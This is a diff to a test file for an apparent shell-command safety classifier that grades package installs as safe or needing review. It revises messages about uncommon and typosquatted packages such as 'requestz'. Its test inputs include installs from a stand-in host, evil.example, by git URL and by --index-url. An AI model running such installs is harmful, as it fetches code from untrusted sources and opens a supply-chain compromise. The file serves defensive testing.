@@ -99,10 +99,10 @@ test('installs of exactly the committed manifest are safe; named packages, other
     [sh('pip install -r requirements.txt -q'), 'safe', /committed requirements\.txt/],
     [sh('pip install -e .'), 'safe'],
     [sh("python3 -m pip install -e '.[dev]'"), 'safe'],
-    // New named packages are the supply-chain review.
-    [sh('npm install left-pad@1.3.0'), 'review', /names left-pad@1\.3\.0/],
-    [sh('pip install requests'), 'review', /names requests/],
-    [sh('pip install -e . requests'), 'review'],
+    // Named packages that are not among the most used are the supply-chain review (popular ones: namedInstall.test.ts).
+    [sh('npm install left-pad@1.3.0'), 'review', /left-pad is not one of the most used npm packages/],
+    [sh('pip install requestz'), 'review', /requestz is one letter away from the popular PyPI package requests/],
+    [sh('pip install -e . requestz'), 'review'],
     [sh('pip install -e git+https://evil.example/x.git'), 'review'],
     // Somewhere else to fetch from, or options that change what runs.
     [sh('pip install -r requirements.txt --index-url http://evil.example/simple'), 'review', /--index-url/],
@@ -117,7 +117,8 @@ test('installs of exactly the committed manifest are safe; named packages, other
     [sh('pip install -r requirements-index.txt'), 'review', /requirements-index\.txt installs from somewhere other/],
     [sh('pip install -r requirements-dev.txt'), 'review', /requirements-dev\.txt is not committed/],
     [sh('pip install -r ../requirements.txt'), 'review'],
-    [sh('cd /tmp && npm ci'), 'review', /no package\.json/],
+    // No package.json in /tmp or above: npm finds nothing to install (namedInstall.test.ts has more).
+    [sh('cd /tmp && npm ci'), 'safe', /nothing to install/],
   ]);
 });
 
